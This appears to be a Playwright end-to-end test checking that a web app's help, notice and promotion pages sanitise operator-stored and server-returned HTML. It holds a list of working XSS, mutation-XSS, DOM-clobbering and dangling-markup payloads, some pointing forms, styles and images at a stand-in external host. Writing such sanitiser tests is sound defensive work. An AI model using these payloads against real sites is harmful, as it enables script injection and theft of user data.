import type { Page } from '@playwright/test';
import { expect, test } from './fixtures.ts';
import { closeAnnouncements, goOnTo, prepare, untilSettled } from './visit.ts';

/** Where hostile content would send what it finds. */
const AWAY = 'https://away.invalid';
const RUN = 'window.top.hostile=1';

/** HTML that has run scripts, sent data away or painted over a page somewhere, once. */
const HOSTILE: readonly string[] = [
  `<script>${RUN}</script><scr<script>ipt>${RUN}</script>`,
  `<img src=x onerror="${RUN}"><img src="/favicon.svg"onload=${RUN}>`,
  `<svg onload="${RUN}"><animate onbegin="${RUN}" attributeName=x dur=1s></svg>`,
  `<svg><a xlink:href="javascript:${RUN}"><text y=20>svg link</text></a><use href="data:image/svg+xml,<svg id=x xmlns='http://www.w3.org/2000/svg'/>#x"/></svg>`,
  `<svg><foreignObject><iframe srcdoc="<script>${RUN}</script>"></iframe></foreignObject><style>@import '${AWAY}/a.css';</style></svg>`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${RUN}&gt;">`,
  `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${RUN}>`,
  `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`,
  `<listing>&lt;img onerror="${RUN}" src=1&gt;</listing><xmp><img src=x onerror=${RUN}></xmp>`,
  `<template><script>${RUN}</script></template><title><img src=x onerror=${RUN}></title>`,
  `<a href="javascript:${RUN}">link 1</a><a href="java&#9;script:${RUN}">link 2</a><a href="&#1;javascript:${RUN}">link 3</a>`,
  `<a href="data:text/html,<script>${RUN}</script>">link 4</a><a href="vbscript:x">link 5</a><a href="//away.invalid">link 6</a>`,
  `<iframe src="${AWAY}"></iframe><object data="${AWAY}/x"></object><embed src="${AWAY}/x"><frameset onload=${RUN}>`,
  `<base href="${AWAY}/"><meta http-equiv="refresh" content="0;url=${AWAY}"><link rel="stylesheet" href="${AWAY}/a.css">`,
  `<style>body{background:url(${AWAY}/css)} a{position:fixed;inset:0}</style><p style="position:fixed;inset:0;background:url(${AWAY}/s)">over</p>`,
  `<form action="${AWAY}/form"><input name=password autofocus onfocus=${RUN}><button formaction="javascript:${RUN}">send</button></form>`,
  `<details open ontoggle=${RUN}><summary>more</summary></details><video><source onerror=${RUN}></video><audio src=x onerror=${RUN}>`,
  `<p id="root" name="location">clobber</p><a id="config"><a id="config" name="url" href="${AWAY}">clobber</a>`,
  `<img src='${AWAY}/dangling?`,
];

/** What came of hostile content in a page. */
function watchPage(page: Page): { away: string[]; dialogs: string[] } {
  const seen = { away: [] as string[], dialogs: [] as string[] };
  page.on('request', (request) => {
    if (request.url().startsWith(AWAY)) seen.away.push(request.url());
  });
  page.on('dialog', (dialog) => {
    seen.dialogs.push(dialog.message());
    void dialog.dismiss();
  });
  return seen;
}

/** Everything in the document that has no place in a text. */
const findings = (page: Page): Promise<string[]> =>
  page.evaluate(() => {
    const found: string[] = [];
    if ('hostile' in window) found.push('a script ran');
    for (const each of document.querySelectorAll('main *, [role="dialog"] *')) {
      const name = each.localName;
      if (['iframe', 'object', 'embed', 'base', 'meta', 'link', 'style', 'script', 'math', 'frameset'].includes(name))
        found.push(name);
      for (const { name: attribute, value } of each.attributes) {
        if (/^on/i.test(attribute)) found.push(`${name} ${attribute}`);
        if (
          /^(?:href|src|action|formaction|xlink:href)$/i.test(attribute) &&
          /^[\s\u0000-\u0020]*(?:javascript|data:text|vbscript)/i.test(value)
        )
          found.push(`${name} ${value}`);
      }
      if (name === 'form' && (each as HTMLFormElement).action.startsWith('https://away')) found.push('a form');
      if (each.id === 'root' || each.id === 'config') found.push(`id ${each.id}`);
    }
    return found;
  });

const SCREENS = ['/help', '/noticePage', '/promotions', '/'];

/** Opens each screen, and each link of it that leads to one text. */
async function visitAll(page: Page): Promise<void> {
  const seen = watchPage(page);
  for (const path of SCREENS) {
    await page.goto(path);
    await untilSettled(page);
    expect(await findings(page), path).toEqual([]);
  }
  await page.goto('/promotions');
  await untilSettled(page);
  const links = await page
    .locator('main a[href*="promoDetail"]')
    .evaluateAll((all) => all.map((each) => (each as HTMLAnchorElement).href));
  expect(links.length).toBeGreaterThan(0);
  for (const [at, link] of [...new Set(links)].entries()) {
    if (at === 0) await page.goto(link);
    else await goOnTo(page, link);
    await untilSettled(page);
    expect(await findings(page), link).toEqual([]);
    // Texts may have one title.
    await goOnTo(page, '/promotions');
    await untilSettled(page);
  }
  expect(seen).toEqual({ away: [], dialogs: [] });
}

test.beforeEach(async ({ page, context }) => {
  await prepare(context, { language: 'EN', theme: 'dark' });
  await closeAnnouncements(page);
});

test('what an operator stores is text and nothing more', { tag: '@desktop' }, async ({ page, request }) => {
  const key = process.env['E2E_OPS_KEY'];
  test.skip(key === undefined, 'where there is an operator');
  const put = async (path: string, data: object): Promise<void> => {
    const answer = await request.put(`http://localhost:${process.env['E2E_OPS_PORT']}/ops/v1/${path}`, {
      headers: { authorization: `Bearer ${key}` },
      data: { merchant: 'marquee', ...data },
    });
    expect(await answer.json(), path).toMatchObject({ success: true });
  };
  const words = { EN: { title: `Hostile <img src=x onerror=${RUN}>`, content: HOSTILE.join('\n<p>next</p>\n') } };
  await put('content', { kind: 'help', slug: 'hostile-help', category: 'account', tags: [], words });
  await put('content', { kind: 'notice', slug: 'hostile-notice', words });
  await put('promotions', { slug: 'hostile-promotion', category: 'new_player', joinMode: 'AUTO', words });
  await visitAll(page);
});

test('what gets past the store is made text by the page', { tag: '@desktop' }, async ({ page, complaints }) => {
  const hostile = HOSTILE.join('\n<p>next</p>\n');
  let replaced = 0;
  /** A reply with hostile HTML wherever HTML stands. */
  const tainted = (value: unknown): unknown => {
    if (typeof value === 'string') return /<\w+/.test(value) ? ((replaced += 1), hostile) : value;
    if (Array.isArray(value)) return value.map(tainted);
    if (typeof value !== 'object' || value === null) return value;
    return Object.fromEntries(Object.entries(value).map(([name, each]) => [name, tainted(each)]));
  };
  await page.route(/\/wps\/(?:system\/helpCenter|relay\/MCSFE_)/, async (route) => {
    const response = await route.fetch();
    await route.fulfill({ response, json: tainted(await response.json()) });
  });
  await visitAll(page);
  // What a page still asks for when it is left ends with it.
  await page.unrouteAll({ behavior: 'ignoreErrors' });
  expect(replaced).toBeGreaterThan(3);
  // The policy of the page speaks of what the purifier reads before it throws it away; nothing else may complain.
  expect(complaints.filter((line) => !line.includes('Content Security Policy'))).toEqual([]);
  complaints.length = 0;
});
